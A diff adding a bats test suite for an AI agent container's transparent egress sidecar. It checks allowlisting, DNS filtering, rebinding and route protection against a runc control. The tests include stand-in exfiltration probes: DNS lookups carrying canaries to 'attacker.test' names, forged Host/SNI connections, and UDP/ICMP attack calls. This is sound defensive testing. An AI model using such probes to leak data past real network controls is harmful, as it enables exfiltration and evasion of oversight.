@@ -1,0 +1,264 @@
+#!/usr/bin/env bats
+# egress-transparent: programs that ignore proxy variables (busybox wget
+# and curl without them, busybox nc, the attacker's raw sockets) meet the
+# sidecar all the same: in the agent's namespace every TCP connection goes
+# to its transparent listener and every DNS question to its stub
+# (docs/egress.md, The transparent path).  Against the test's own
+# "internet" (helpers/egress.bash), whose DNS server answers names that no
+# hosts file has: an allowlisted name is reached, nothing else; a server
+# that speaks first on name:22; no question for a name off the list ever
+# reaches a DNS server; SNI or Host naming another name than the stub's
+# answer, and names answered with loopback or private addresses, are
+# refused; UDP and ICMP fail at once; the agent cannot change any of it;
+# egress.transparent=false keeps the proxy-only shape.  Each is shown under
+# the control runtime (runc) as well, where the same bundle sits in the
+# outside namespace and every one of these attempts works.
+
+load helpers
+load helpers/hardening
+load helpers/egress
+
+setup_file ()
+{
+  egress_net_up
+}
+
+teardown_file ()
+{
+  egress_net_down
+}
+
+T_ALLOW='dns.test,ssh.test:22,web.test,dns6.test,rebind.test,private-dns.test'
+
+setup ()
+{
+  egress_setup "$T_ALLOW"
+}
+
+teardown ()
+{
+  teardown_bundle
+}
+
+CURL=/host/usr/bin/curl
+# what a program that ignores proxy variables sees: none
+NOPROXY='unset HTTP_PROXY HTTPS_PROXY ALL_PROXY NO_PROXY http_proxy https_proxy all_proxy no_proxy'
+
+# dns_questions: the questions the test's DNS server got so far.
+dns_questions ()
+{
+  grep -c '^query ' "$EGRESS_DNS_LOG" || true
+}
+
+@test "transparent: a client that ignores proxy variables reaches an allowlisted name, and nothing else" {
+  requires_curl
+  # first, while the stub has named no address: the raw connection is
+  # named by its Host (the sidecar checks that web.test leads there)
+  local script="$NOPROXY
+    printf 'raw: '; (printf 'GET / HTTP/1.1\r\nHost: web.test\r\nConnection: close\r\n\r\n'; sleep 2) \
+      | busybox nc -w 3 1.2.3.10 80 | grep hello
+    printf 'wget: '; busybox wget -q -O - http://dns.test/ 2>&1
+    printf 'curl: '; $CURL -sS http://dns.test/ 2>&1
+    printf 'curl6: '; $CURL -sS http://dns6.test/ 2>&1
+    printf 'unlisted: '; $CURL -sS -m 5 http://dns-other.test/ 2>&1
+    printf 'raw-unlisted: '; (printf 'GET / HTTP/1.1\r\nHost: other.test\r\nConnection: close\r\n\r\n'; sleep 2) \
+      | busybox nc -w 3 1.2.3.11 80 2>&1; echo
+    printf 'nameless: '; $CURL -sS -m 5 http://1.2.3.11/ 2>&1"
+  run_ct sh -c "$script"
+  for l in "wget: hello from web" "curl: hello from web" "curl6: hello from web6" \
+    "raw: hello from web"; do
+    has_line "$l"
+  done
+  has_line "unlisted: curl: (6) Could not resolve host: dns-other.test"
+  [[ $output == *"nameless: curl: (56) Recv failure: Connection reset by peer"* ]] || fail "$output"
+  [[ $output != *"hello from other"* ]] || fail "$output"
+  audit_events create | jq -e '.directives.network | .transparent and .rules == "runtime"' >/dev/null \
+    || fail "$(audit_events create)"
+  local events
+  events=$(egress_events)
+  for want in \
+    '.proto == "tcp" and .via == "host" and .host == "dns.test" and .addr == "1.2.3.10" and .port == 80 and .decision == "allow" and .bytes_down > 0' \
+    '.proto == "tcp" and .via == "host" and .host == "dns6.test" and .addr == "3ffe:213::10" and .decision == "allow"' \
+    '.proto == "tcp" and .via == "host" and .host == "web.test" and .decision == "allow"' \
+    '.proto == "tcp" and .via == "host" and .host == "other.test" and .decision == "deny" and .reason == "not-allowlisted" and .bytes_up == 0' \
+    '.proto == "tcp" and .addr == "1.2.3.11" and .host == null and .decision == "deny" and .reason == "not-allowlisted"'; do
+    jq -se "any(.[]; $want)" <<<"$events" >/dev/null || fail "no audit line with $want in:"$'\n'"$events"
+  done
+  audit_events dns | jq -se 'any(.[]; .name == "dns-other.test" and .decision == "deny"
+      and .reason == "not-allowlisted")' >/dev/null || fail "$(audit_events dns)"
+
+  # the control: under runc the same bundle is in OUT, and reaches it all
+  requires_control
+  control_run sh -c "$script"
+  has_line "unlisted: hello from other"
+  has_line "nameless: hello from other"
+}
+
+@test "transparent: TCP to name:22 reaches a server that speaks first; the name must be allowed on that port" {
+  local script="$NOPROXY
+    busybox nslookup dns.test >/dev/null 2>&1
+    printf 'ssh: '; sleep 2 | busybox nc -w 3 ssh.test 22
+    printf 'not-on-22: '; sleep 2 | busybox nc -w 3 dns.test 22 2>&1; echo"
+  run_ct sh -c "$script"
+  has_line "ssh: echo other"
+  [[ $output != *"echo web"* ]] || fail "dns.test is not allowed on port 22: $output"
+  egress_events | jq -se 'any(.[]; .via == "dns" and .host == "ssh.test" and .port == 22
+      and .decision == "allow" and .bytes_down > 0)' >/dev/null || fail "$(egress_events)"
+  egress_events | jq -se 'any(.[]; .addr == "1.2.3.10" and .port == 22 and .decision == "deny"
+      and .reason == "not-allowlisted")' >/dev/null || fail "$(egress_events)"
+
+  requires_control
+  control_run sh -c "$script"
+  has_line "ssh: echo other"
+  has_line "not-on-22: echo web"
+}
+
+@test "transparent: DNS questions for names off the allowlist never reach a DNS server" {
+  requires_curl
+  new_canary
+  CANARY=${CANARY,,} # names are compared and logged in lowercase
+  local script="$NOPROXY
+    busybox nslookup leak-$CANARY-a.attacker.test 1.2.3.53 >/dev/null 2>&1; echo a=\$?
+    busybox nslookup leak-$CANARY-b.attacker.test 9.9.9.9 >/dev/null 2>&1; echo b=\$?
+    busybox nslookup leak-$CANARY-c.attacker.test 127.0.0.53 >/dev/null 2>&1; echo c=\$?
+    busybox nslookup -type=txt leak-$CANARY-d.attacker.test 1.2.3.53 >/dev/null 2>&1; echo d=\$?
+    $CURL -sS -m 5 http://leak-$CANARY-e.attacker.test/ >/dev/null 2>&1; echo e=\$?
+    busybox nslookup dns.test 3ffe:213::53 2>&1 | grep -c 1.2.3.10 | sed 's/^/allowed /'
+    grep '^nameserver' /etc/resolv.conf"
+  run_ct sh -c "$script"
+  check_status 0
+  for l in a=1 b=1 c=1 d=1 e=6 "allowed 1" "nameserver 127.0.0.1"; do
+    has_line "$l"
+  done
+  [[ $(grep -c '^nameserver' <<<"$output") -eq 1 ]] || fail "$output"
+  # the server saw the stub's own question for dns.test, none of the others
+  grep -q '^query dns.test 1 ' "$EGRESS_DNS_LOG" || fail "$(cat "$EGRESS_DNS_LOG")"
+  ! grep -q "$CANARY" "$EGRESS_DNS_LOG" || fail "a question left: $(grep "$CANARY" "$EGRESS_DNS_LOG")"
+  # each refusal is recorded, name and decision
+  [[ $(audit_events dns | jq -s --arg c "$CANARY" 'map(select((.name // "") | contains($c))
+      | select(.decision == "deny" and .reason == "not-allowlisted")) | length') -ge 5 ]] \
+    || fail "$(audit_events dns)"
+
+  # the control: the same questions reach the server under runc
+  requires_control
+  control_run sh -c "$script"
+  grep -q "leak-$CANARY-a.attacker.test" "$EGRESS_DNS_LOG" \
+    || fail "under $CONTROL_RUNTIME the question should arrive: $(cat "$EGRESS_DNS_LOG")"
+}
+
+@test "transparent: SNI or Host naming another name than the stub's answer is refused" {
+  requires_curl
+  local script="$NOPROXY
+    busybox nslookup dns.test >/dev/null 2>&1
+    printf 'agree: '; (printf 'GET / HTTP/1.1\r\nHost: dns.test\r\nConnection: close\r\n\r\n'; sleep 2) \
+      | busybox nc -w 3 dns.test 80 | grep hello
+    printf 'host: '; (printf 'GET / HTTP/1.1\r\nHost: dns-other.test\r\nConnection: close\r\n\r\n'; sleep 2) \
+      | busybox nc -w 3 dns.test 80 2>&1 | grep -c hello
+    # TLS to the HTTP port: that server does not speak first, so the
+    # reset is the sidecar's, not a reaction to what a server said
+    printf 'sni: '; $CURL -sS -k -m 5 --resolve dns-other.test:80:1.2.3.10 https://dns-other.test:80/ 2>&1"
+  run_ct sh -c "$script"
+  has_line "agree: hello from web"
+  has_line "host: 0"
+  [[ $output == *"sni: curl: (35)"*"Connection reset by peer"* ]] || fail "$output"
+  local n
+  n=$(egress_events | jq -s 'map(select(.host == "dns-other.test" and .addr == "1.2.3.10"
+      and .decision == "deny" and .reason == "name-mismatch" and .bytes_up == 0)) | length')
+  [[ $n -eq 2 ]] || fail "$(egress_events)"
+
+  # the control: the server answers whatever name is asked (in HTTP, to
+  # the ClientHello too)
+  requires_control
+  control_run sh -c "$script"
+  has_line "host: 1"
+  [[ $output == *"sni: curl: (35)"* && $output != *"sni: curl: (35)"*"reset by peer"* ]] || fail "$output"
+}
+
+@test "transparent: a name answered with a loopback or private address is refused (rebinding)" {
+  requires_curl
+  local script="$NOPROXY
+    busybox nslookup rebind.test 2>&1 | grep -c '^Name:' | sed 's/^/rebind /'
+    busybox nslookup private-dns.test 2>&1 | grep -c '^Name:' | sed 's/^/private /'
+    $CURL -sS -m 5 http://private-dns.test/ 2>&1"
+  run_ct sh -c "$script"
+  has_line "rebind 0"
+  has_line "private 0"
+  has_line "curl: (6) Could not resolve host: private-dns.test"
+  audit_events dns | jq -se 'any(.[]; .name == "rebind.test" and .decision == "deny"
+      and .reason == "address-loopback")' >/dev/null || fail "$(audit_events dns)"
+  audit_events dns | jq -se 'any(.[]; .name == "private-dns.test" and .decision == "deny"
+      and .reason == "address-private")' >/dev/null || fail "$(audit_events dns)"
+
+  requires_control
+  control_run sh -c "$script"
+  has_line "rebind 1"
+  has_line "hello from private"
+}
+
+@test "transparent: UDP and ICMP fail at once" {
+  # ICMP echo sockets for every group, so that the attacker can ping
+  # without CAP_NET_RAW
+  update_config '.linux.sysctl["net.ipv4.ping_group_range"] = "0 2147483647"'
+  local datagrams script='
+    attack udp 1.2.3.10 9999
+    attack udp 3ffe:213::10 9999
+    attack icmp 1.2.3.10'
+  datagrams=$(wc -l <"$EGRESS_UDP_LOG")
+  SECONDS=0
+  run_ct sh -c "$script"
+  ((SECONDS < 3)) || fail "took ${SECONDS} s: $output"
+  [[ $(grep -c '^ATTACK-BLOCKED sendto: Operation not permitted' <<<"$output") -eq 3 ]] || fail "$output"
+  [[ $(wc -l <"$EGRESS_UDP_LOG") -eq $datagrams ]] || fail "a datagram arrived: $(cat "$EGRESS_UDP_LOG")"
+
+  requires_control
+  control_run sh -c "$script"
+  [[ $(grep -c '^ATTACK-OK' <<<"$output") -eq 3 ]] || fail "$output"
+}
+
+@test "transparent: the agent cannot change its routes or rules; a created container's monitor set them" {
+  start_ct
+  rt exec "$CT_ID" sh -c '
+    ip route del default 2>&1; echo del=$?
+    ip link set lo down 2>&1; echo down=$?
+    ip route add 1.2.3.0/24 dev lo 2>&1; echo add=$?
+    ip route | sed "s/^/route /"'
+  [[ $(grep -c 'Operation not permitted' <<<"$output") -eq 3 && $output != *=0* ]] || fail "$output"
+  has_line "route default dev lo scope link  src 127.0.0.1 "
+  [[ $(grep -c '^route ' <<<"$output") -eq 1 ]] || fail "$output"
+  rt exec "$CT_ID" sh -c "$NOPROXY; busybox wget -q -O - http://dns.test/"
+  has_line "hello from web"
+  audit_events create | jq -e '.directives.network | .transparent and .rules == "monitor"' >/dev/null \
+    || fail "$(audit_events create)"
+  # the rules, seen from outside
+  if command -v nft >/dev/null; then
+    run nsenter --net="/proc/$(ct_pid "$CT_ID")/ns/net" nft list table inet agentrt
+    check_status 0
+    [[ $output == *"redirect to :15001"* && $output == *"redirect to :53"* ]] || fail "$output"
+  fi
+  # the sidecar got every socket
+  local cmd
+  cmd=$(tr '\0' ' ' <"/proc/$(egress_sidecar_pid)/cmdline")
+  for o in --transparent-fd --transparent6-fd --dns-udp-fd --dns-tcp-fd --dns-udp6-fd --dns-tcp6-fd; do
+    [[ $cmd == *" $o "* ]] || fail "no $o: $cmd"
+  done
+}
+
+@test "transparent: egress.transparent false keeps the proxy-only shape, recorded" {
+  hardening_policy '.egress.transparent = false' || return 1
+  run_ct sh -c "$NOPROXY
+    busybox nc -w 2 1.2.3.10 80 </dev/null 2>&1; echo tcp=\$?
+    busybox nslookup dns.test 1.2.3.53 >/dev/null 2>&1; echo dns=\$?
+    ip route | wc -l | sed 's/^/routes /'
+    grep '^nameserver' /etc/resolv.conf
+    http_proxy=http://127.0.0.1:3128 busybox wget -q -O - http://web.test/"
+  has_line tcp=1
+  [[ $output == *"Network is unreachable"* ]] || fail "$output"
+  has_line dns=1
+  has_line "routes 0"
+  has_line "nameserver 1.2.3.53"
+  has_line "hello from web"
+  audit_events create | jq -e '.directives.network | (.transparent | not) and .rules == "none"' >/dev/null \
+    || fail "$(audit_events create)"
+  audit_events create | jq -e '.changes[] | select(.kind == "egress" and .why == "egress.transparent is false")' \
+    >/dev/null || fail "$(audit_events create)"
+}
